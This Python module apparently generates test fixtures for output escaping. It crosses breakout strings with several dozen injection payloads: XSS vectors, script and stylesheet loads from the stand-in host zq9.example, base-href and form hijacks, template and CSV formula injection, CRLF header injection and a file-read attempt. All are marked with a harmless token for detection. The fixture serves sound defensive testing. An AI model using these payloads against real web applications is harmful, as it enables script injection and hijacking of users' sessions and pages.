"""Texts that try to leave the place where they are shown, each way out with each thing to do there.

What they would do carries the mark `zq9`, so that a test can see whether they did.
"""

from itertools import product

WAYS_OUT = (
    *("", "'>", '">', "</p>", "</a>", "</title>", "</textarea>", "</script>", "</style>", "-->"),
    *("]]>", "`", "\\", "\n\n", "</option></select>", "</svg>", "&#34;>", "%22%3E", "\u2028"),
)
DEEDS = (
    "<zq9 zq9=1>",
    "<script>zq9()</script>",
    "<ScRiPt src=//zq9.example></sCrIpT>",
    "<img src=zq9 onerror=zq9()>",
    "<svg/onload=zq9()>",
    "<svg><script href=data:,zq9()>",
    "<details open ontoggle=zq9()>",
    "<iframe srcdoc='<script>zq9()</script>'>",
    "<style>@import'//zq9.example'</style>",
    "<base href=//zq9.example>",
    "<form action=//zq9.example><button formaction=javascript:zq9()>",
    "<meta http-equiv=refresh content='0;url=javascript:zq9()'>",
    '<a href="javascript:zq9()">x</a>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=zq9 onerror=zq9()>'>",
    "<noscript><p title='</noscript><img src=zq9 onerror=zq9()>'>",
    "<template><zq9></template>",
    "<!--zq9",
    "<?zq9 ?>",
    "<![CDATA[<zq9>]]>",
    "&lt;zq9&gt;",
    '" onfocus=zq9() autofocus x="',
    "' onmouseover=zq9() x='",
    "[x](javascript:zq9())",
    "[x](data:text/html,zq9)",
    '[x](https://zq9.example "zq9\\" onclick=zq9()")',
    "![x](https://zq9.example/zq9.gif)",
    "<javascript:zq9()>",
    "[[image:zq9]]",
    "{{ zq9|safe }}{% debug %}",
    "=HYPERLINK(zq9)",
    "\r\nX-zq9: 1\r\n\r\nzq9",
    "END:VEVENT\r\nzq9:1",
    '#read("/etc/zq9")',
    '"}],"zq9":[{"',
    "\x1b[2Jzq9",
    "\u202ezq9\u2066",
    "\x07\x0bzq9\ufffe",
)
PAYLOADS = tuple(way + deed for way, deed in product(WAYS_OUT, DEEDS))


def fitting(number: int, room: int | None) -> str:
    """Return the payload of this number, or the next one that fits into the room of a column."""
    while room and len(PAYLOADS[number % len(PAYLOADS)]) > room:
        number += 1
    return PAYLOADS[number % len(PAYLOADS)]
